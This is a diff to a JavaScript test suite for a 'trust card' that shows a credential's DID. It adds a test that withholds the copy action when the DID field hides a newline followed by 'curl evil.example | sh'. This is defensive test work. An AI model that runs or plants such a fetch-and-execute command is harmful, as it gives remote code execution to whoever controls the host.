@@ -67,6 +67,8 @@ describe('the trust card', () => {
 		expect(valueOf(card, 'Taken back?')?.value).toMatch(/^No: its issuer was asked, as of just now/);
 		expect(valueOf(card, 'Comes from')).toBeDefined();
 		expect(card.actions).toEqual(['check', 'copyDid', 'forget']);
+		// What is no DID may be a command that waits to be pasted.
+		expect(cardOf({ ...VERIFIED, did: 'did:web:a\ncurl evil.example | sh' }).actions).toEqual(['check', 'forget']);
 	});
 
 	it('the older proof and a key that was not proven are told apart from the newer proof', () => {
